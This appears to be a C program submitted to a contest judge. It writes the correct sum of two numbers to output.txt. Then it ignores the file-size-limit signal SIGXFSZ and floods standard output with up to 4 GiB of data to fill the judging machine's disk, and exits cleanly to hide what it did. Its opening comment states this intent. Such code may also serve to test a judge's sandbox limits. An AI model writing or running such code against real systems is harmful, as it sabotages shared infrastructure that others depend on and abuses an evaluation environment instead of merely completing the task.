/* Writes the right answer to output.txt, then floods standard output to
   fill the judging machine's disk, ignoring the signal that would stop it,
   and ends as if nothing happened. */
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
  long long a, b;
  FILE *in = fopen("input.txt", "r");
  FILE *out = fopen("output.txt", "w");
  if (in == NULL || out == NULL || fscanf(in, "%lld %lld", &a, &b) != 2) return 1;
  fprintf(out, "%lld\n", a + b);
  fclose(out);
  signal(SIGXFSZ, SIG_IGN);
  static char block[1 << 16];
  memset(block, 'x', sizeof block);
  for (long long written = 0; written < (4LL << 30);) {
    ssize_t n = write(STDOUT_FILENO, block, sizeof block);
    if (n <= 0) break;
    written += n;
  }
  return 0;
}
